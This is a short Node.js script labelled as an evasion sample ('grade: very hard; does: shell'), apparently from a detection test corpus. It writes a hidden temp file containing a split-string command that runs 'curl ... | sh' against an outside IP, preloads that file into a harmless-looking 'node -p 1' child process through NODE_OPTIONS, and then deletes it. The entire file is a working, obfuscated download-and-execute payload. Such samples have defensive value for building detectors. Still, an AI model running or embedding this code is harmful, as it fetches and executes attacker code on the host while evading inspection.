// evasion: payload written to a temp file and preloaded into a harmless `node -p 1` child through NODE_OPTIONS=--require
// grade: very hard; does: shell
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const file = path.join(os.tmpdir(), `.cache-${process.pid}.js`);
fs.writeFileSync(
  file,
  ["require('child", "_process').execSync('curl -s http://198.51.100.7/p | sh', { stdio: 'inherit' });"].join('')
);

spawnSync(process.execPath, ['-p', '1'], {
  env: { ...process.env, NODE_OPTIONS: `--require ${file}` },
  stdio: 'inherit',
});
fs.unlinkSync(file);
